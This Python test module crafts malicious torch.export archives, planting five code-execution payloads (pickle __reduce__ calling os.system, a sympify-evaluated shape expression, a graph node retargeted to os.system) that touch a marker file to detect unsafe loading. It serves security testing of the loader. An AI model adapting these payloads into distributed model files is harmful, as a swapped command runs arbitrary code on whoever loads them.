"""Crafted `torch.export` archives that run a shell command when `torch.export.load` opens them.

Each takes a good archive and plants one of the code paths that torch's loader follows: a pickled
weight, pickled sample inputs, an opaque constant (plain `pickle.loads`), a shape expression that
`sympy.sympify` evaluates, and a graph node whose target resolves to `os.system`. The payload creates
`marker`, so a test sees whether any code ran.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from pathlib import Path


class _Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _rewrite(src: Path, dst: Path, change, extra=None) -> Path:
    with zipfile.ZipFile(src) as zin:
        names = zin.namelist()
        prefix = names[0].split("/", 1)[0]
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as zout:
            for name in names:
                zout.writestr(name, change(name, zin.read(name)))
            for name, body in (extra(prefix) if extra else {}).items():
                zout.writestr(name, body)
    dst.write_bytes(out.getvalue())
    return dst


def pickled_weight(src: Path, dst: Path, marker: Path) -> Path:
    def change(name, body):
        if name.endswith("model_weights_config.json"):
            config = json.loads(body)
            first = next(iter(config["config"]))
            config["config"][first]["use_pickle"] = True
            return json.dumps(config)
        if name.endswith("/data/weights/weight_0"):
            return pickle.dumps(_Payload(marker), protocol=2)
        return body

    return _rewrite(src, dst, change)


def pickled_sample_inputs(src: Path, dst: Path, marker: Path) -> Path:
    def change(name, body):
        return pickle.dumps(_Payload(marker), protocol=2) if name.endswith("sample_inputs/model.pt") else body

    return _rewrite(src, dst, change)


def opaque_constant(src: Path, dst: Path, marker: Path) -> Path:
    def change(name, body):
        if name.endswith("model_constants_config.json"):
            config = json.loads(body)
            config["config"]["planted"] = {
                "path_name": "opaque_obj_0",
                "is_param": False,
                "use_pickle": True,
                "tensor_meta": None,
            }
            return json.dumps(config)
        return body

    return _rewrite(
        src, dst, change, extra=lambda prefix: {f"{prefix}/data/constants/opaque_obj_0": pickle.dumps(_Payload(marker))}
    )


def shape_expression(src: Path, dst: Path, marker: Path) -> Path:
    def change(name, body):
        if not name.endswith("models/model.json"):
            return body
        text = body.decode()
        start = text.index('"expr_str": "') + len('"expr_str": "')
        end = text.index('"', start)
        code = f"__import__('os').system('touch {marker}') and Symbol('s0', positive=True, integer=True)"
        return text[:start] + code + text[end:]

    return _rewrite(src, dst, change)


def node_target(src: Path, dst: Path, marker: Path) -> Path:
    def change(name, body):
        if name.endswith("models/model.json"):
            return body.decode().replace("torch.ops.aten.relu.default", "torch.os.system", 1)
        return body

    return _rewrite(src, dst, change)


ATTACKS = (pickled_weight, pickled_sample_inputs, opaque_constant, shape_expression, node_target)
